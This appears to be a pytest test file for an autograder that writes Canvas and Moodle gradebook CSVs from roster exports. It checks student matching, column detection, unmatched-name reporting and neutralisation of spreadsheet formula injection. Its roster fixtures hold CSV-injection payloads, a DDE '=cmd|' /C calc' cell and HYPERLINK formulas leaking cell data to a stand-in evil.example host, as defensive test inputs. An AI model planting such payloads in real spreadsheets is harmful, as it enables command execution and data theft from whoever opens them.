"""Gradebook files for Canvas and Moodle, made from their own roster exports and read back with their rules."""

from __future__ import annotations

import csv

import pytest

from autograder.course.gradebook import RosterError, write_canvas, write_moodle
from tests.helpers import total

TOTAL = total()  # the assignment's most, from the checks' points and the settings

# a Canvas gradebook export as Canvas writes it: identity columns, assignment columns "Title (id)", totals, and
# the indented "Points Possible" row second
CANVAS_ROSTER = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Quiz 1 (101),SDPA (2024),Current Points,Final Points\n"
    f"    Points Possible,,,,,10.00,{TOTAL:.2f},(read only),(read only)\n"
    '"Doe, Jane",1001,s1001,jdoe,Section A,9,,9,9\n'
    '"O\'Brien ""Bob""",1002,s1002,bob,Section A,8,,8,8\n'
    "=cmd|' /C calc'!A0,1003,s1003,mallory,Section B,7,,7,7\n"
    "Nobody Graded,1004,s1004,ghost,Section B,,,0,0\n"
    '"Student, Test",1005,,test_student,Section A,,,,\n'
)


def _read(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_canvas_file_keeps_canvas_header_rules(tmp_path):
    """Identity columns first with Section last of them, the assignment's own column, Points Possible second;
    matched by SIS Login ID; a name with a comma or quotes survives the round trip as it was, one with a leading =
    is written as text (a leading quote)."""
    roster = tmp_path / "roster.csv"
    roster.write_text(CANVAS_ROSTER, encoding="utf-8")
    out = tmp_path / "canvas.csv"
    written = write_canvas(out, roster, "SDPA", {"jdoe": TOTAL, "bob": 27.5, "mallory": 0.0, "stray": 10.0}, TOTAL)
    rows = _read(out)
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "SDPA (2024)"]
    assert rows[1][0].strip() == "Points Possible" and rows[1][-1] == f"{TOTAL:g}"
    assert rows[2:] == [
        ["Doe, Jane", "1001", "s1001", "jdoe", "Section A", f"{TOTAL:g}"],
        ['O\'Brien "Bob"', "1002", "s1002", "bob", "Section A", "27.5"],
        ["'=cmd|' /C calc'!A0", "1003", "s1003", "mallory", "Section B", "0"],
    ]
    assert (written.matched, written.roster_only, written.graded_only) == (3, ["Nobody Graded"], ["stray"])


def test_canvas_title_without_an_id_is_its_own_column(tmp_path):
    """A roster without the assignment gets a new column named by the title."""
    roster = tmp_path / "roster.csv"
    roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section\nA,1,s1,a,S\n", encoding="utf-8")
    write_canvas(tmp_path / "c.csv", roster, "Attention", {"a": 3.0}, TOTAL)
    assert _read(tmp_path / "c.csv")[0][-1] == "Attention"


def test_moodle_file_matches_by_id_number_then_email(tmp_path):
    """Moodle: ID number first, then username, then e-mail (any case); one grade column."""
    roster = tmp_path / "moodle.csv"
    roster.write_text(
        "First name,Last name,ID number,Institution,Department,Email address,SDPA,Last downloaded from this course\n"
        "Jane,Doe,s1001,,,jane@uni.edu,,1700000000\n"
        "Bob,Roe,,,,Bob@Uni.edu,,1700000000\n",
        encoding="utf-8",
    )
    out = tmp_path / "m.csv"
    written = write_moodle(out, roster, "SDPA", {"s1001": 50.0, "bob@uni.edu": 40.0})
    assert _read(out) == [
        ["First name", "Last name", "ID number", "Email address", "SDPA"],
        ["Jane", "Doe", "s1001", "jane@uni.edu", "50"],
        ["Bob", "Roe", "", "Bob@Uni.edu", "40"],
    ]
    assert (written.roster_only, written.graded_only) == ([], [])


FORMULAS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet runs at a cell's start (OWASP's CSV injection)


def test_canvas_file_runs_no_formula_from_the_roster(tmp_path):
    """Every identity cell starting with =, +, -, @ or a tab (a name, SIS IDs, the assignment's title) is written
    as text behind a leading quote; students are still matched on the roster's own values, and Canvas matches on
    ID (digits) first, so nothing is lost."""
    roster = tmp_path / "roster.csv"
    roster.write_text(
        "Student,ID,SIS User ID,SIS Login ID,Section\n"
        '"=HYPERLINK(""https://evil.example/?d=""&B2,""grades"")",2001,s2001,jdoe,A\n'
        "@SUM(1),2002,-2002,+bob,=Section\n"
        '"\tTab",2003,s2003,tab,A\n',
        encoding="utf-8",
    )
    out = tmp_path / "canvas.csv"
    written = write_canvas(out, roster, "=1+1", {"jdoe": TOTAL, "+bob": 27.5, "tab": 1.0}, TOTAL)
    assert written.matched == 3
    rows = _read(out)
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "'=1+1"]
    assert rows[2:] == [
        ['\'=HYPERLINK("https://evil.example/?d="&B2,"grades")', "2001", "s2001", "jdoe", "A", f"{TOTAL:g}"],
        ["'@SUM(1)", "2002", "'-2002", "'+bob", "'=Section", "27.5"],
        ["'\\x09Tab", "2003", "s2003", "tab", "A", "1"],
    ]
    assert [cell for row in rows for cell in row if cell[:1] in FORMULAS] == []


def test_moodle_file_runs_no_formula_from_the_roster(tmp_path):
    """Moodle: names, ID number, username and e-mail starting with a formula character are written as text;
    matching reads the roster's own values."""
    roster = tmp_path / "moodle.csv"
    roster.write_text(
        "First name,Last name,ID number,Username,Email address,SDPA\n"
        '"=HYPERLINK(""https://evil.example"",""x"")",@SUM(1),-42,@eve,+eve@uni.edu,\n'
        "Jane,Doe,s1001,jdoe,jane@uni.edu,\n",
        encoding="utf-8",
    )
    out = tmp_path / "m.csv"
    written = write_moodle(out, roster, "SDPA", {"-42": 10.0, "s1001": 50.0})
    assert (written.matched, written.graded_only) == (2, [])
    assert _read(out) == [
        ["First name", "Last name", "ID number", "Username", "Email address", "SDPA"],
        ['\'=HYPERLINK("https://evil.example","x")', "'@SUM(1)", "'-42", "'@eve", "'+eve@uni.edu", "10"],
        ["Jane", "Doe", "s1001", "jdoe", "jane@uni.edu", "50"],
    ]


def test_a_roster_that_is_not_an_export_is_refused(tmp_path):
    """A CSV without the LMS's identity columns: a clear refusal naming what it has."""
    roster = tmp_path / "r.csv"
    roster.write_text("name,score\nA,1\n", encoding="utf-8")
    with pytest.raises(RosterError, match="not a Canvas gradebook export.*has: name, score"):
        write_canvas(tmp_path / "c.csv", roster, "SDPA", {}, TOTAL)
    with pytest.raises(RosterError, match="cannot be read"):
        write_moodle(tmp_path / "m.csv", tmp_path / "missing.csv", "SDPA", {})


def test_gradescope_visibility_is_the_courses_choice(tmp_path):
    """[gradescope] visibility = "after_due_date": every check that ran carries it; a check not run stays hidden."""
    import json

    from tests.helpers import BIN, ROOT, run

    (tmp_path / "course.toml").write_text('[gradescope]\nvisibility = "after_due_date"\n')
    done = run([str(BIN / "sdpa-grade"), "grade", str(ROOT / "examples" / "class" / "alice.py"), "--json",
                str(tmp_path / "r.json"), "--config", str(tmp_path / "course.toml")])  # fmt: skip
    assert done.returncode == 0, done.stderr
    tests = json.loads((tmp_path / "r.json").read_text())["tests"]
    assert {t["visibility"] for t in tests if t["max_score"] > 0} == {"after_due_date"}
    assert {t["visibility"] for t in tests if t["max_score"] == 0} <= {"hidden"}


def test_the_assignments_column_is_found_without_case_and_named(tmp_path):
    """'sdpa' finds Canvas's 'SDPA (2024)' and Moodle's 'Assignment: SDPA (Real)' (any case); what was written says
    which column it is and whether the roster had it, and lists the roster's assignment columns."""
    roster = tmp_path / "roster.csv"
    roster.write_text(CANVAS_ROSTER, encoding="utf-8")
    written = write_canvas(tmp_path / "c.csv", roster, "sdpa", {"jdoe": TOTAL}, TOTAL)
    assert (written.column, written.column_is_new) == ("SDPA (2024)", False)
    assert _read(tmp_path / "c.csv")[0][-1] == "SDPA (2024)"
    written = write_canvas(tmp_path / "c.csv", roster, "Attention", {"jdoe": TOTAL}, TOTAL)
    assert (written.column, written.column_is_new) == ("Attention", True)
    assert written.assignments == ("Quiz 1 (101)", "SDPA (2024)")
    moodle = tmp_path / "moodle.csv"
    moodle.write_text("First name,Last name,Email address,Assignment: SDPA (Real)\nJane,Doe,jane@uni.edu,\n")
    written = write_moodle(tmp_path / "m.csv", moodle, "sdpa", {"jane@uni.edu": 50.0})
    assert (written.column, written.column_is_new) == ("Assignment: SDPA (Real)", False)
    assert _read(tmp_path / "m.csv")[0] == ["First name", "Last name", "Email address", "Assignment: SDPA (Real)"]


@pytest.mark.timeout(60)
def test_the_unmatched_and_the_column_are_told_last_naming_the_file(tmp_path):
    """After the class summary: the file written, its column, and the students left unmatched (exit 1)."""
    import json

    from tests.helpers import BIN, run

    folder, out = tmp_path / "submitted", tmp_path / "grades"
    out.mkdir()
    for name in ("jdoe", "stray"):
        (folder / name).mkdir(parents=True)
        (out / f"{name}.json").write_text(json.dumps({"score": 40.0, "max_score": TOTAL, "output": "", "tests": []}))
    roster = tmp_path / "roster.csv"
    roster.write_text(CANVAS_ROSTER, encoding="utf-8")
    canvas = tmp_path / "canvas.csv"
    done = run([str(BIN / "sdpa-grade"), "summary", str(folder), "--json-dir", str(out),
                "--csv", str(canvas), "--csv-format", "canvas", "--roster", str(roster)])  # fmt: skip
    assert done.returncode == 1
    last = done.stderr.strip().splitlines()[-3:]
    assert last[0] == f"note: {canvas} holds 1 student's grade, in the roster's column 'SDPA (2024)'"
    # each name quoted: a comma inside a name (Canvas's "Doe, Jane") never reads as two students
    assert last[1] == (
        f"sdpa-grade summary: 3 in the roster but not graded (not in {canvas}):"
        ' "O\'Brien \\"Bob\\"", "=cmd|\' /C calc\'!A0", "Nobody Graded"'
    )
    assert last[2] == f'sdpa-grade summary: 1 graded but not in the roster (not in {canvas}): "stray"'


def test_unmatched_names_are_listed_one_quoted_name_each():
    """A list of unmatched students whose names hold commas (Canvas's "Doe, Jane"): each name in quotes, so the
    list reads as the students it names, not as twice as many."""
    from autograder.course.gradebook import unmatched_line

    line = unmatched_line("in the roster but not graded", ["Doe, Jane", "Student, Test", 'say "hi"'], "c.csv")
    assert line == ('3 in the roster but not graded (not in c.csv): "Doe, Jane", "Student, Test", "say \\"hi\\""')


@pytest.mark.parametrize("twin", ["\u212aate@uni.edu", "Kate@Uni.edu"])
def test_two_students_one_roster_row_are_refused_naming_both(tmp_path, twin):
    """A Kelvin-sign or case twin of a classmate's e-mail: both would match Kate's row (e-mails compare after NFKC
    and case folding); the file is refused, naming both, and nothing is written."""
    roster = tmp_path / "moodle.csv"
    roster.write_text("First name,Last name,ID number,Email address,SDPA\nKate,Doe,,kate@uni.edu,\n", encoding="utf-8")
    out = tmp_path / "m.csv"
    with pytest.raises(RosterError, match="compare as one") as refused:
        write_moodle(out, roster, "SDPA", {"kate@uni.edu": 55.0, twin: 0.0})
    assert '"kate@uni.edu"' in str(refused.value) and twin in str(refused.value)
    assert not out.exists()
